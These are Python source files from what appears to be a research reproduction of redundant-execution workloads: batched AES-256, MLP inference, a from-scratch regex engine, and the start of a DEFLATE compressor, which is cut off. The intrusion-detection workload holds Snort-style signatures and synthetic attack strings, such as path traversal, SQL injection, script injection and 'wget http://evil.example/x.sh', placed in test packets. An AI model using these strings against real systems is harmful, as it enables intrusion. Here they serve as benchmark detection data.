# whole-array table lookups (SubBytes, the GF(2^8) multiples used by
# MixColumns), a single fancy-index permutation (ShiftRows), and XORs
# (AddRoundKey) — identical arithmetic, identical bytes out, two-plus
# orders of magnitude fewer interpreter dispatches.

_SBOX_NP = np.array(_SBOX, dtype=np.uint8)
_INV_SBOX_NP = np.array(_INV_SBOX, dtype=np.uint8)

#: GF(2^8) multiplication tables for the MixColumns coefficients.
_MUL = {
    factor: np.array([_gf_mul(x, factor) for x in range(256)], dtype=np.uint8)
    for factor in (2, 3, 9, 11, 13, 14)
}

#: Flat-state ShiftRows permutations. State byte ``4*col + row`` moves
#: to ``4*((col + row) % 4) + row`` exactly as in :func:`_shift_rows`.
_SHIFT_IDX = np.array(
    [4 * ((col + row) % 4) + row for col in range(4) for row in range(4)],
    dtype=np.intp,
)
_INV_SHIFT_IDX = np.array(
    [4 * ((col - row) % 4) + row for col in range(4) for row in range(4)],
    dtype=np.intp,
)


def expand_key_array(key: bytes) -> np.ndarray:
    """Round keys as a ``(15, 16)`` uint8 array in flat-state order."""
    return np.array(expand_key(key), dtype=np.uint8).reshape(_NR + 1, 16)


def _mix_columns_batch(state: np.ndarray) -> np.ndarray:
    a = state.reshape(-1, 4, 4)
    b0, b1, b2, b3 = a[:, :, 0], a[:, :, 1], a[:, :, 2], a[:, :, 3]
    mixed = np.empty_like(a)
    mixed[:, :, 0] = _MUL[2][b0] ^ _MUL[3][b1] ^ b2 ^ b3
    mixed[:, :, 1] = b0 ^ _MUL[2][b1] ^ _MUL[3][b2] ^ b3
    mixed[:, :, 2] = b0 ^ b1 ^ _MUL[2][b2] ^ _MUL[3][b3]
    mixed[:, :, 3] = _MUL[3][b0] ^ b1 ^ b2 ^ _MUL[2][b3]
    return mixed.reshape(-1, 16)


def _inv_mix_columns_batch(state: np.ndarray) -> np.ndarray:
    a = state.reshape(-1, 4, 4)
    b0, b1, b2, b3 = a[:, :, 0], a[:, :, 1], a[:, :, 2], a[:, :, 3]
    mixed = np.empty_like(a)
    mixed[:, :, 0] = _MUL[14][b0] ^ _MUL[11][b1] ^ _MUL[13][b2] ^ _MUL[9][b3]
    mixed[:, :, 1] = _MUL[9][b0] ^ _MUL[14][b1] ^ _MUL[11][b2] ^ _MUL[13][b3]
    mixed[:, :, 2] = _MUL[13][b0] ^ _MUL[9][b1] ^ _MUL[14][b2] ^ _MUL[11][b3]
    mixed[:, :, 3] = _MUL[11][b0] ^ _MUL[13][b1] ^ _MUL[9][b2] ^ _MUL[14][b3]
    return mixed.reshape(-1, 16)


def encrypt_blocks(blocks: np.ndarray, round_keys: np.ndarray) -> np.ndarray:
    """AES-256 encrypt a ``(n, 16)`` uint8 block array in one sweep."""
    state = blocks ^ round_keys[0]
    for round_index in range(1, _NR):
        state = _SBOX_NP[state][:, _SHIFT_IDX]
        state = _mix_columns_batch(state) ^ round_keys[round_index]
    return _SBOX_NP[state][:, _SHIFT_IDX] ^ round_keys[_NR]


def decrypt_blocks(blocks: np.ndarray, round_keys: np.ndarray) -> np.ndarray:
    """Inverse cipher over a ``(n, 16)`` uint8 block array."""
    state = blocks ^ round_keys[_NR]
    for round_index in range(_NR - 1, 0, -1):
        state = _INV_SBOX_NP[state[:, _INV_SHIFT_IDX]] ^ round_keys[round_index]
        state = _inv_mix_columns_batch(state)
    return _INV_SBOX_NP[state[:, _INV_SHIFT_IDX]] ^ round_keys[0]


def encrypt_block(block: bytes, words) -> bytes:
    if len(block) != 16:
        raise WorkloadError(f"AES block must be 16 bytes, got {len(block)}")
    state = list(block)
    _add_round_key(state, words, 0)
    for round_index in range(1, _NR):
        _sub_bytes(state, _SBOX)
        _shift_rows(state)
        _mix_columns(state)
        _add_round_key(state, words, round_index)
    _sub_bytes(state, _SBOX)
    _shift_rows(state)
    _add_round_key(state, words, _NR)
    return bytes(state)


def decrypt_block(block: bytes, words) -> bytes:
    if len(block) != 16:
        raise WorkloadError(f"AES block must be 16 bytes, got {len(block)}")
    state = list(block)
    _add_round_key(state, words, _NR)
    for round_index in range(_NR - 1, 0, -1):
        _inv_shift_rows(state)
        _sub_bytes(state, _INV_SBOX)
        _add_round_key(state, words, round_index)
        _inv_mix_columns(state)
    _inv_shift_rows(state)
    _sub_bytes(state, _INV_SBOX)
    _add_round_key(state, words, 0)
    return bytes(state)


def ecb_encrypt(plaintext: bytes, key: bytes) -> bytes:
    """AES-256-ECB over a multiple-of-16-byte plaintext (batched)."""
    if len(plaintext) % 16:
        raise WorkloadError(
            f"ECB plaintext must be a multiple of 16 bytes, got {len(plaintext)}"
        )
    if not plaintext:
        expand_key(key)  # still validate the key
        return b""
    blocks = np.frombuffer(plaintext, dtype=np.uint8).reshape(-1, 16)
    return encrypt_blocks(blocks, expand_key_array(key)).tobytes()


def ecb_decrypt(ciphertext: bytes, key: bytes) -> bytes:
    if len(ciphertext) % 16:
        raise WorkloadError(
            f"ECB ciphertext must be a multiple of 16 bytes, got {len(ciphertext)}"
        )
    if not ciphertext:
        expand_key(key)
        return b""
    blocks = np.frombuffer(ciphertext, dtype=np.uint8).reshape(-1, 16)
    return decrypt_blocks(blocks, expand_key_array(key)).tobytes()


def ecb_encrypt_scalar(plaintext: bytes, key: bytes) -> bytes:
    """The one-block-at-a-time reference path: same bytes as
    :func:`ecb_encrypt`, kept for equivalence tests and as the
    before-side of ``scripts/bench_perf.py``."""
    if len(plaintext) % 16:
        raise WorkloadError(
            f"ECB plaintext must be a multiple of 16 bytes, got {len(plaintext)}"
        )
    words = expand_key(key)
    return b"".join(
        encrypt_block(plaintext[i : i + 16], words)
        for i in range(0, len(plaintext), 16)
    )


def ecb_decrypt_scalar(ciphertext: bytes, key: bytes) -> bytes:
    """Scalar reference counterpart of :func:`ecb_decrypt`."""
    if len(ciphertext) % 16:
        raise WorkloadError(
            f"ECB ciphertext must be a multiple of 16 bytes, got {len(ciphertext)}"
        )
    words = expand_key(key)
    return b"".join(
        decrypt_block(ciphertext[i : i + 16], words)
        for i in range(0, len(ciphertext), 16)
    )


# ----------------------------------------------------------------------
# The EMR workload
# ----------------------------------------------------------------------


class AesWorkload(Workload):
    """Bulk AES-256-ECB: chunked plaintext, one shared key.

    Region layout per dataset: ``data`` (a private plaintext chunk —
    "the AES-256-ECB encryption benchmark only uses data from the block
    being encrypted", §4.2.2) and ``key`` (the same 32 bytes in every
    dataset — replication candidate at any threshold <= 100 %).
    """

    name = "encryption"
    library_analog = "OpenSSL"
    paper_replication_strategy = "Replicate key"

    def __init__(self, chunk_bytes: int = 256, chunks: int = 48) -> None:
        if chunk_bytes % 16 or chunk_bytes <= 0:
            raise WorkloadError("chunk_bytes must be a positive multiple of 16")
        self.chunk_bytes = chunk_bytes
        self.chunks = chunks

    def build(self, rng: np.random.Generator, scale: int = 1) -> WorkloadSpec:
        n_chunks = self.chunks * scale
        plaintext = rng.integers(0, 256, n_chunks * self.chunk_bytes, dtype=np.uint8)
        key = rng.integers(0, 256, 32, dtype=np.uint8).tobytes()
        key_ref = RegionRef("key", 0, 32)
        datasets = [
            DatasetSpec(
                index=i,
                regions={
                    "data": RegionRef("plaintext", i * self.chunk_bytes, self.chunk_bytes),
                    "key": key_ref,
                },
            )
            for i in range(n_chunks)
        ]
        return WorkloadSpec(
            name=self.name,
            blobs={"plaintext": plaintext.tobytes(), "key": key},
            datasets=datasets,
            output_size=self.chunk_bytes,
        )

    def run_job(self, inputs: "dict[str, bytes]", params: "dict[str, object]") -> bytes:
        return ecb_encrypt(inputs["data"], inputs["key"])

    def reference_outputs(self, spec: WorkloadSpec) -> "list[bytes]":
        """Golden path: every chunk shares the key, so expand it once
        and push all blocks of the whole campaign through one batched
        sweep. Byte-identical to the per-job path."""
        inputs = [spec.slice_inputs(ds) for ds in spec.datasets]
        keys = {job["key"] for job in inputs}
        if len(keys) != 1:
            return super().reference_outputs(spec)
        round_keys = expand_key_array(next(iter(keys)))
        chunks = [job["data"] for job in inputs]
        if any(len(chunk) % 16 for chunk in chunks):
            return super().reference_outputs(spec)
        blocks = np.frombuffer(b"".join(chunks), dtype=np.uint8).reshape(-1, 16)
        ciphertext = encrypt_blocks(blocks, round_keys).tobytes()
        outputs = []
        offset = 0
        for chunk in chunks:
            outputs.append(ciphertext[offset : offset + len(chunk)])
            offset += len(chunk)
        return outputs

    def instructions_per_job(self, dataset: DatasetSpec) -> int:
        # ~1100 instructions per byte for table-free software AES-256.
        return dataset.regions["data"].length * 1100
