"""DNN inference from scratch: an MLP over sliding sensor windows.

The paper's fifth workload class (Table 5: "Replicate model weights &
biases"). The network classifies overlapping windows of an onboard
sensor stream — each inference window shares samples with its
neighbours, so datasets conflict heavily; meanwhile the weight blob
appears in *every* dataset and is replicated per executor. The
combination (large replicated block + dense conflict graph) is why the
paper finds DNNs are EMR's worst case for energy: "DNNs require more
cache clears to avoid jobset conflicts" (§4.2.5).

Weights are float32, serialized into one contiguous blob; inference
deserializes from the *fetched* bytes, so a flipped cached weight
really changes the logits — the paper cites exactly this failure
("a single SEU can also drop a ML model's inference accuracy from 85 %
to 10 %", §2).
"""

from __future__ import annotations

import struct

import numpy as np

from ..errors import WorkloadError
from .base import DatasetSpec, RegionRef, Workload, WorkloadSpec


def _relu(x: np.ndarray) -> np.ndarray:
    return np.maximum(x, 0.0)


def _softmax(x: np.ndarray) -> np.ndarray:
    e = np.exp(x - x.max())
    return e / e.sum()


class Mlp:
    """A dense network with ReLU hidden layers and softmax output."""

    def __init__(self, layer_sizes: "tuple[int, ...]") -> None:
        if len(layer_sizes) < 2:
            raise WorkloadError("need at least input and output layers")
        self.layer_sizes = tuple(layer_sizes)

    def init_params(self, rng: np.random.Generator) -> "list[tuple]":
        """He-initialized (weight, bias) pairs."""
        params = []
        for fan_in, fan_out in zip(self.layer_sizes, self.layer_sizes[1:]):
            scale = np.sqrt(2.0 / fan_in)
            weight = rng.normal(0, scale, (fan_in, fan_out)).astype(np.float32)
            bias = np.zeros(fan_out, dtype=np.float32)
            params.append((weight, bias))
        return params

    def serialize(self, params: "list[tuple]") -> bytes:
        """Pack all weights and biases into one contiguous blob."""
        chunks = []
        for weight, bias in params:
            chunks.append(weight.astype("<f4").tobytes())
            chunks.append(bias.astype("<f4").tobytes())
        return b"".join(chunks)

    def deserialize(self, blob: bytes) -> "list[tuple]":
        params = []
        offset = 0
        for fan_in, fan_out in zip(self.layer_sizes, self.layer_sizes[1:]):
            w_bytes = fan_in * fan_out * 4
            b_bytes = fan_out * 4
            if offset + w_bytes + b_bytes > len(blob):
                raise WorkloadError("weight blob truncated")
            weight = np.frombuffer(
                blob[offset : offset + w_bytes], dtype="<f4"
            ).reshape(fan_in, fan_out)
            offset += w_bytes
            bias = np.frombuffer(blob[offset : offset + b_bytes], dtype="<f4")
            offset += b_bytes
            params.append((weight, bias))
        return params

    def forward(self, x: np.ndarray, params: "list[tuple]") -> np.ndarray:
        activation = x.astype(np.float64)
        for i, (weight, bias) in enumerate(params):
            activation = activation @ weight.astype(np.float64) + bias
            if i < len(params) - 1:
                activation = _relu(activation)
        return _softmax(activation)

    @property
    def param_bytes(self) -> int:
        total = 0
        for fan_in, fan_out in zip(self.layer_sizes, self.layer_sizes[1:]):
            total += (fan_in * fan_out + fan_out) * 4
        return total


class DnnWorkload(Workload):
    """Classify overlapping windows of a telemetry/sensor stream."""

    name = "neural_networks"
    library_analog = "N/A"
    paper_replication_strategy = "Replicate model weights & biases"

    def __init__(
        self,
        window_samples: int = 64,
        stride: int = 16,
        windows: int = 36,
        hidden: "tuple[int, ...]" = (48, 24),
        classes: int = 4,
    ) -> None:
        if stride <= 0 or stride > window_samples:
            raise WorkloadError("need 0 < stride <= window_samples")
        self.window_samples = window_samples
        self.stride = stride
        self.windows = windows
        self.model = Mlp((window_samples,) + hidden + (classes,))

    def build(self, rng: np.random.Generator, scale: int = 1) -> WorkloadSpec:
        n_windows = self.windows * scale
        stream_samples = (n_windows - 1) * self.stride + self.window_samples
        # Sensor stream: mixture of regimes so classes are nontrivial.
        t = np.arange(stream_samples)
        stream = (
            np.sin(t / 9.0) * 0.8
            + np.sign(np.sin(t / 37.0)) * 0.4
            + rng.normal(0, 0.2, stream_samples)
        ).astype("<f4")
        params = self.model.init_params(rng)
        weights_blob = self.model.serialize(params)
        weights_ref = RegionRef("weights", 0, len(weights_blob))
        datasets = []
        for i in range(n_windows):
            start = i * self.stride
            datasets.append(
                DatasetSpec(
                    index=i,
                    regions={
                        "window": RegionRef("stream", start * 4, self.window_samples * 4),
                        "weights": weights_ref,
                    },
                )
            )
        return WorkloadSpec(
            name=self.name,
            blobs={"stream": stream.tobytes(), "weights": weights_blob},
            datasets=datasets,
            output_size=4 + 4 * self.model.layer_sizes[-1],
        )

    def run_job(self, inputs: "dict[str, bytes]", params: "dict[str, object]") -> bytes:
        window = np.frombuffer(inputs["window"], dtype="<f4")
        model_params = self.model.deserialize(inputs["weights"])
        probs = self.model.forward(window, model_params)
        label = int(np.argmax(probs))
        return struct.pack("<i", label) + probs.astype("<f4").tobytes()

    def instructions_per_job(self, dataset: DatasetSpec) -> int:
        macs = 0
        for fan_in, fan_out in zip(self.model.layer_sizes, self.model.layer_sizes[1:]):
            macs += fan_in * fan_out
        return macs * 6 + 4000
