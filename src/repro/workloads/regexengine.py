"""A regex engine built from scratch (the paper's RE2 analog).

RE2's defining property is linear-time matching via automata instead of
backtracking; this engine reproduces that architecture in miniature:

1. recursive-descent parser -> AST,
2. Thompson construction -> NFA with epsilon transitions,
3. lazy subset construction -> DFA states memoized on demand,
4. unanchored search by keeping the start state live at every input
   position.

Supported syntax: literals, ``.``, escapes (``\\d \\w \\s`` and literal
escapes), character classes ``[a-z0-9]`` with negation and ranges,
``*``, ``+``, ``?``, alternation ``|``, and grouping ``( )``. Input is
bytes (the intrusion-detection workload scans raw packets).
"""

from __future__ import annotations

from dataclasses import dataclass, field

import numpy as np

from ..errors import WorkloadError
from .base import DatasetSpec, RegionRef, Workload, WorkloadSpec

# ----------------------------------------------------------------------
# AST
# ----------------------------------------------------------------------


@dataclass(frozen=True)
class Node:
    pass


@dataclass(frozen=True)
class CharClass(Node):
    """A set of byte values, stored as a frozenset."""

    chars: frozenset


@dataclass(frozen=True)
class Concat(Node):
    parts: tuple


@dataclass(frozen=True)
class Alternate(Node):
    options: tuple


@dataclass(frozen=True)
class Repeat(Node):
    child: Node
    min_count: int  # 0 for * and ?, 1 for +
    unbounded: bool  # False only for ?


_DIGITS = frozenset(range(ord("0"), ord("9") + 1))
_WORD = frozenset(
    set(range(ord("a"), ord("z") + 1))
    | set(range(ord("A"), ord("Z") + 1))
    | set(_DIGITS)
    | {ord("_")}
)
_SPACE = frozenset({ord(" "), ord("\t"), ord("\n"), ord("\r"), 0x0B, 0x0C})
_ANY = frozenset(range(256))
_ESCAPES = {"d": _DIGITS, "w": _WORD, "s": _SPACE}


class _Parser:
    def __init__(self, pattern: str) -> None:
        self.pattern = pattern
        self.pos = 0

    def parse(self) -> Node:
        node = self._alternate()
        if self.pos != len(self.pattern):
            raise WorkloadError(
                f"unexpected {self.pattern[self.pos]!r} at {self.pos} "
                f"in pattern {self.pattern!r}"
            )
        return node

    def _peek(self) -> "str | None":
        return self.pattern[self.pos] if self.pos < len(self.pattern) else None

    def _take(self) -> str:
        ch = self._peek()
        if ch is None:
            raise WorkloadError(f"unexpected end of pattern {self.pattern!r}")
        self.pos += 1
        return ch

    def _alternate(self) -> Node:
        options = [self._concat()]
        while self._peek() == "|":
            self._take()
            options.append(self._concat())
        return options[0] if len(options) == 1 else Alternate(tuple(options))

    def _concat(self) -> Node:
        parts = []
        while self._peek() not in (None, "|", ")"):
            parts.append(self._repeat())
        if not parts:
            return Concat(())  # empty: matches the empty string
        return parts[0] if len(parts) == 1 else Concat(tuple(parts))

    def _repeat(self) -> Node:
        node = self._atom()
        suffix = self._peek()
        if suffix == "*":
            self._take()
            return Repeat(node, 0, True)
        if suffix == "+":
            self._take()
            return Repeat(node, 1, True)
        if suffix == "?":
            self._take()
            return Repeat(node, 0, False)
        return node

    def _atom(self) -> Node:
        ch = self._take()
        if ch == "(":
            node = self._alternate()
            if self._take() != ")":
                raise WorkloadError(f"unclosed group in {self.pattern!r}")
            return node
        if ch == ".":
            return CharClass(_ANY)
        if ch == "[":
            return self._char_class()
        if ch == "\\":
            return self._escape()
        if ch in "*+?)|":
            raise WorkloadError(f"misplaced {ch!r} in {self.pattern!r}")
        return CharClass(frozenset({ord(ch)}))

    def _escape(self) -> Node:
        ch = self._take()
        if ch in _ESCAPES:
            return CharClass(_ESCAPES[ch])
        if ch.isupper() and ch.lower() in _ESCAPES:
            return CharClass(_ANY - _ESCAPES[ch.lower()])
        return CharClass(frozenset({ord(ch)}))

    def _char_class(self) -> Node:
        negate = False
        if self._peek() == "^":
            self._take()
            negate = True
        chars: set = set()
        while True:
            ch = self._peek()
            if ch is None:
                raise WorkloadError(f"unclosed class in {self.pattern!r}")
            if ch == "]" and chars:
                self._take()
                break
            ch = self._take()
            if ch == "\\":
                escaped = self._take()
                if escaped in _ESCAPES:
                    chars |= _ESCAPES[escaped]
                    continue
                ch = escaped
            if self._peek() == "-" and self.pos + 1 < len(self.pattern) and self.pattern[self.pos + 1] != "]":
                self._take()
                hi = self._take()
                if ord(hi) < ord(ch):
                    raise WorkloadError(f"inverted range {ch}-{hi}")
                chars |= set(range(ord(ch), ord(hi) + 1))
            else:
                chars.add(ord(ch))
        return CharClass(frozenset(_ANY - chars) if negate else frozenset(chars))


# ----------------------------------------------------------------------
# Thompson NFA
# ----------------------------------------------------------------------


@dataclass
class _NfaState:
    index: int
    # byte value -> set of successor state indices
    edges: "dict[int, set]" = field(default_factory=dict)
    epsilon: "set" = field(default_factory=set)


class _NfaBuilder:
    def __init__(self) -> None:
        self.states: "list[_NfaState]" = []

    def new_state(self) -> int:
        state = _NfaState(len(self.states))
        self.states.append(state)
        return state.index

    def add_edge(self, src: int, chars: frozenset, dst: int) -> None:
        for ch in chars:
            self.states[src].edges.setdefault(ch, set()).add(dst)

    def add_epsilon(self, src: int, dst: int) -> None:
        self.states[src].epsilon.add(dst)

    def compile(self, node: Node) -> "tuple[int, int]":
        """Returns (entry, exit) state indices for the fragment."""
        if isinstance(node, CharClass):
            entry, exit_ = self.new_state(), self.new_state()
            self.add_edge(entry, node.chars, exit_)
            return entry, exit_
        if isinstance(node, Concat):
            entry = self.new_state()
            current = entry
            for part in node.parts:
                sub_entry, sub_exit = self.compile(part)
                self.add_epsilon(current, sub_entry)
                current = sub_exit
            return entry, current
        if isinstance(node, Alternate):
            entry, exit_ = self.new_state(), self.new_state()
            for option in node.options:
                sub_entry, sub_exit = self.compile(option)
                self.add_epsilon(entry, sub_entry)
                self.add_epsilon(sub_exit, exit_)
            return entry, exit_
        if isinstance(node, Repeat):
            entry, exit_ = self.new_state(), self.new_state()
            sub_entry, sub_exit = self.compile(node.child)
            self.add_epsilon(entry, sub_entry)
            self.add_epsilon(sub_exit, exit_)
            if node.min_count == 0:
                self.add_epsilon(entry, exit_)
            if node.unbounded:
                self.add_epsilon(sub_exit, sub_entry)
            return entry, exit_
        raise WorkloadError(f"unknown AST node {node!r}")


# ----------------------------------------------------------------------
# Lazy DFA
# ----------------------------------------------------------------------


class Regex:
    """Compiled pattern with linear-time unanchored search."""

    def __init__(self, pattern: str) -> None:
        self.pattern = pattern
        builder = _NfaBuilder()
        entry, exit_ = builder.compile(_Parser(pattern).parse())
        self._states = builder.states
        self._accept = exit_
        self._start_closure = self._epsilon_closure({entry})
        # Lazy DFA: frozen NFA-state-set -> {byte -> frozen set}.
        self._dfa: "dict[frozenset, dict]" = {}
        self._accepting: "dict[frozenset, bool]" = {}

    def _epsilon_closure(self, states: "set") -> frozenset:
        stack = list(states)
        closure = set(states)
        while stack:
            for nxt in self._states[stack.pop()].epsilon:
                if nxt not in closure:
                    closure.add(nxt)
                    stack.append(nxt)
        return frozenset(closure)

    def _step(self, dfa_state: frozenset, byte: int) -> frozenset:
        transitions = self._dfa.setdefault(dfa_state, {})
        nxt = transitions.get(byte)
        if nxt is None:
            moved: set = set()
            for index in dfa_state:
                edges = self._states[index].edges.get(byte)
                if edges:
                    moved |= edges
            # Unanchored search: the start closure stays live always.
            nxt = self._epsilon_closure(moved | set(self._start_closure))
            transitions[byte] = nxt
        return nxt

    def _is_accepting(self, dfa_state: frozenset) -> bool:
        cached = self._accepting.get(dfa_state)
        if cached is None:
            cached = self._accept in dfa_state
            self._accepting[dfa_state] = cached
        return cached

    def search(self, data: bytes) -> bool:
        """True if the pattern matches anywhere in ``data``."""
        state = self._start_closure
        if self._is_accepting(state):
            return True
        for byte in data:
            state = self._step(state, byte)
            if self._is_accepting(state):
                return True
        return False

    def __repr__(self) -> str:
        return f"Regex({self.pattern!r}, {len(self._states)} NFA states)"


# ----------------------------------------------------------------------
# The EMR workload
# ----------------------------------------------------------------------

#: Snort-flavored signatures the intrusion detector scans packets for.
DEFAULT_SIGNATURES = (
    r"GET /etc/passwd",
    r"\.\./\.\./",
    r"cmd\.exe\?",
    r"union select",
    r"<script>",
    r"\\x90\\x90\\x90",
    r"admin(istrator)?:.+:0:0",
    r"(wget|curl) http",
)


def _serialize_patterns(patterns: "tuple[str, ...]") -> bytes:
    return "\n".join(patterns).encode("utf-8")


def _deserialize_patterns(blob: bytes) -> "list[str]":
    return blob.decode("utf-8", errors="replace").split("\n")


class IntrusionDetectionWorkload(Workload):
    """Scan packets against a shared signature set.

    Every dataset pairs a private packet with the same ``patterns``
    region, so EMR replicates the signature block per executor
    ("Replicate search pattern", Table 5). Outputs are per-packet match
    bitmasks.
    """

    name = "intrusion_detection"
    library_analog = "RE2"
    paper_replication_strategy = "Replicate search pattern"

    def __init__(
        self,
        packet_bytes: int = 512,
        packets: int = 40,
        signatures: "tuple[str, ...]" = DEFAULT_SIGNATURES,
        hit_rate: float = 0.3,
    ) -> None:
        if not signatures:
            raise WorkloadError("need at least one signature")
        self.packet_bytes = packet_bytes
        self.packets = packets
        self.signatures = signatures
        self.hit_rate = hit_rate
        self._compiled = [Regex(p) for p in signatures]

    def build(self, rng: np.random.Generator, scale: int = 1) -> WorkloadSpec:
        n_packets = self.packets * scale
        payloads = []
        attacks = (
            b"GET /etc/passwd HTTP/1.0",
            b"../../../../boot.ini",
            b"cmd.exe?/c+dir",
            b"1 union select password from users",
            b"<script>alert(1)</script>",
            b"wget http://evil.example/x.sh",
        )
        for _ in range(n_packets):
            packet = bytearray(
                rng.integers(32, 127, self.packet_bytes, dtype=np.uint8).tobytes()
            )
            if rng.random() < self.hit_rate:
                attack = attacks[int(rng.integers(0, len(attacks)))]
                start = int(rng.integers(0, self.packet_bytes - len(attack)))
                packet[start : start + len(attack)] = attack
            payloads.append(bytes(packet))
        patterns_blob = _serialize_patterns(self.signatures)
        traffic = b"".join(payloads)
        pattern_ref = RegionRef("patterns", 0, len(patterns_blob))
        datasets = [
            DatasetSpec(
                index=i,
                regions={
                    "packet": RegionRef("traffic", i * self.packet_bytes, self.packet_bytes),
                    "patterns": pattern_ref,
                },
            )
            for i in range(n_packets)
        ]
        return WorkloadSpec(
            name=self.name,
            blobs={"traffic": traffic, "patterns": patterns_blob},
            datasets=datasets,
            output_size=8,
        )

    def run_job(self, inputs: "dict[str, bytes]", params: "dict[str, object]") -> bytes:
        patterns = _deserialize_patterns(inputs["patterns"])
        packet = inputs["packet"]
        mask = 0
        for bit, pattern in enumerate(patterns):
            try:
                matched = Regex(pattern).search(packet)
            except WorkloadError:
                # A corrupted pattern byte can produce an unparseable
                # regex: surface it as a distinctive (wrong) output the
                # voters will flag rather than crashing the executor.
                matched = True
                mask |= 1 << 63
            if matched:
                mask |= 1 << bit
        return mask.to_bytes(8, "little")

    def instructions_per_job(self, dataset: DatasetSpec) -> int:
        return dataset.regions["packet"].length * len(self.signatures) * 45
