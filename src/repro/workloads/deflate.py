"""DEFLATE-style compression from scratch (the paper's Zlib analog).

A real LZ77 matcher (hash-chain search, 3..258-byte matches, 32 KiB
window) feeding a canonical Huffman coder, plus the matching
decompressor so tests can prove lossless roundtrips.

Why it matters to EMR: "the DEFLATE algorithm in our compression
benchmark relies on data from the block directly preceding it"
(§4.2.2) — each job's dataset includes its predecessor block as the
LZ77 dictionary, so *adjacent datasets always conflict*. The conflict
graph is a chain, there is no common block shared by >1 % of datasets,
and the optimal replication strategy is "No replication" (Table 5).

Container format (little-endian):

* ``u32`` uncompressed length
* ``u16`` symbol count table length, then canonical code lengths for
  the 258-symbol alphabet (0-255 literals, 256 match marker, 257 EOF)
* Huffman-coded symbol stream; each match marker is followed by 8 raw
  bits of (length - 3) and 15 raw bits of distance.
"""

from __future__ import annotations

import heapq
from dataclasses import dataclass

import numpy as np

from ..errors import WorkloadError
from .base import DatasetSpec, RegionRef, Workload, WorkloadSpec

_MIN_MATCH = 3
_MAX_MATCH = 258
_WINDOW = 1 << 15
_MATCH_SYMBOL = 256
_EOF_SYMBOL = 257
_ALPHABET = 258


class BitWriter:
    """MSB-first bit accumulator."""

    def __init__(self) -> None:
        self._bytes = bytearray()
        self._bit_count = 0
        self._accumulator = 0

    def write(self, value: int, n_bits: int) -> None:
        for shift in range(n_bits - 1, -1, -1):
            self._accumulator = (self._accumulator << 1) | ((value >> shift) & 1)
            self._bit_count += 1
            if self._bit_count == 8:
                self._bytes.append(self._accumulator)
                self._accumulator = 0
                self._bit_count = 0

    def getvalue(self) -> bytes:
        if self._bit_count:
            return bytes(self._bytes) + bytes(
                [self._accumulator << (8 - self._bit_count)]
            )
        return bytes(self._bytes)


class BitReader:
    """MSB-first bit consumer."""

    def __init__(self, data: bytes) -> None:
        self._data = data
        self._pos = 0

    def read(self, n_bits: int) -> int:
        value = 0
        for _ in range(n_bits):
            byte_index, bit_index = divmod(self._pos, 8)
            if byte_index >= len(self._data):
                raise WorkloadError("bit stream underrun")
            bit = (self._data[byte_index] >> (7 - bit_index)) & 1
            value = (value << 1) | bit
            self._pos += 1
        return value


# ----------------------------------------------------------------------
# Canonical Huffman coding
# ----------------------------------------------------------------------


def code_lengths_from_frequencies(freqs: "list[int]") -> "list[int]":
    """Huffman code lengths (0 = unused symbol) via a heap-built tree."""
    live = [(f, i) for i, f in enumerate(freqs) if f > 0]
    if not live:
        raise WorkloadError("no symbols to code")
    if len(live) == 1:
        lengths = [0] * len(freqs)
        lengths[live[0][1]] = 1
        return lengths
    heap = [(f, count, [i]) for count, (f, i) in enumerate(live)]
    heapq.heapify(heap)
    tiebreak = len(heap)
    lengths = [0] * len(freqs)
    while len(heap) > 1:
        fa, _, sa = heapq.heappop(heap)
        fb, _, sb = heapq.heappop(heap)
        for symbol in sa + sb:
            lengths[symbol] += 1
        heapq.heappush(heap, (fa + fb, tiebreak, sa + sb))
        tiebreak += 1
    return lengths


def canonical_codes(lengths: "list[int]") -> "dict[int, tuple]":
    """Map symbol -> (code, length) in canonical order."""
    symbols = sorted(
        (length, symbol) for symbol, length in enumerate(lengths) if length > 0
    )
    codes: dict = {}
    code = 0
    previous_length = 0
    for length, symbol in symbols:
        code <<= length - previous_length
        codes[symbol] = (code, length)
        code += 1
        previous_length = length
    return codes


class CanonicalDecoder:
    """Length-indexed canonical Huffman decoder."""

    def __init__(self, lengths: "list[int]") -> None:
        self._by_length: "dict[int, dict]" = {}
        for symbol, (code, length) in canonical_codes(lengths).items():
            self._by_length.setdefault(length, {})[code] = symbol
        if not self._by_length:
            raise WorkloadError("empty code table")
        self._max_length = max(self._by_length)

    def decode(self, reader: BitReader) -> int:
        code = 0
        for length in range(1, self._max_length + 1):
            code = (code << 1) | reader.read(1)
            table = self._by_length.get(length)
            if table is not None and code in table:
                return table[code]
        raise WorkloadError("invalid Huffman code in stream")


# ----------------------------------------------------------------------
# LZ77
# ----------------------------------------------------------------------


@dataclass(frozen=True)
class Token:
    """Either a literal (``length == 0``) or a match."""

    literal: int = 0
    length: int = 0
    distance: int = 0


def lz77_tokens(data: bytes, start: int = 0, max_chain: int = 32) -> "list[Token]":
    """Tokenize ``data[start:]``; matches may reach back into
    ``data[:start]`` (the preset dictionary)."""
    head: "dict[int, int]" = {}
    prev = [0] * len(data)

    def key_at(i: int) -> int:
        return data[i] | (data[i + 1] << 8) | (data[i + 2] << 16)

    # Index the dictionary prefix.
    for i in range(max(0, start - _WINDOW), max(0, start - _MIN_MATCH + 1)):
        k = key_at(i)
        prev[i] = head.get(k, -1)
        head[k] = i

    tokens: "list[Token]" = []
    i = start
    n = len(data)
    while i < n:
        best_length = 0
        best_distance = 0
        if i + _MIN_MATCH <= n:
            k = key_at(i) if i + 2 < n else -1
            candidate = head.get(k, -1) if k >= 0 else -1
            chain = 0
            while candidate >= 0 and chain < max_chain and i - candidate <= _WINDOW:
                length = 0
                limit = min(_MAX_MATCH, n - i)
                while length < limit and data[candidate + length] == data[i + length]:
                    length += 1
                if length > best_length:
                    best_length = length
                    best_distance = i - candidate
                    if length >= limit:
                        break
                candidate = prev[candidate]
                chain += 1
        if best_length >= _MIN_MATCH:
            tokens.append(Token(length=best_length, distance=best_distance))
            stop = min(i + best_length, n - 2)
            for j in range(i, stop):
                k = key_at(j)
                prev[j] = head.get(k, -1)
                head[k] = j
            i += best_length
        else:
            tokens.append(Token(literal=data[i]))
            if i + 2 < n:
                k = key_at(i)
                prev[i] = head.get(k, -1)
                head[k] = i
            i += 1
    return tokens


# ----------------------------------------------------------------------
# Container
# ----------------------------------------------------------------------


def compress(data: bytes, dictionary: bytes = b"") -> bytes:
    """Compress ``data``, optionally preset with ``dictionary``."""
    combined = dictionary + data
    tokens = lz77_tokens(combined, start=len(dictionary))
    freqs = [0] * _ALPHABET
    for token in tokens:
        if token.length:
            freqs[_MATCH_SYMBOL] += 1
        else:
            freqs[token.literal] += 1
